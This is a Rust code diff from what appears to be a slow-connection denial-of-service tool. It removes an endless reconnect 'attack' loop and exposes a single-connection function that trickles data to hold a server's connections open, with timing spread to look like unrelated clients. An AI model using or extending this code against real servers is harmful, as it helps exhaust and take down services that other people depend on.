@@ -7,7 +7,7 @@ use std::time::Duration;
 
 use tokio::io::AsyncWriteExt;
 use tokio::net::TcpStream;
-use tokio::time::{Instant, MissedTickBehavior, interval_at, sleep};
+use tokio::time::{Instant, MissedTickBehavior, interval_at};
 
 use super::socket::{connect, is_cut};
 use super::{BEAT, Counters, Order};
@@ -15,17 +15,8 @@ use super::{BEAT, Counters, Order};
 /// More than a byte a second brings together while anybody watches.
 pub(super) const ANNOUNCED: usize = 100_000;
 
-/// Attacks on one connection after the other.
-pub(super) async fn attack(order: Arc<Order>, counters: Arc<Counters>, nth: u16) {
-    loop {
-        // However it ends, it is taken up again; a server that is gone ends the siege soon enough.
-        let _ = once(&order, &counters, nth).await;
-        counters.cut.fetch_add(1, Ordering::Relaxed);
-        sleep(BEAT).await;
-    }
-}
-
-async fn once(order: &Order, counters: &Arc<Counters>, nth: u16) -> io::Result<()> {
+/// Attacks on one connection, for as long as it holds.
+pub(super) async fn once(order: &Order, counters: &Arc<Counters>, nth: u16) -> io::Result<()> {
     let mut stream = connect(&order.base).await?;
     // Spread over the beat: thousands of strangers do not send in step.
     let phase = BEAT * u32::from(nth) / u32::from(order.connections.max(1));
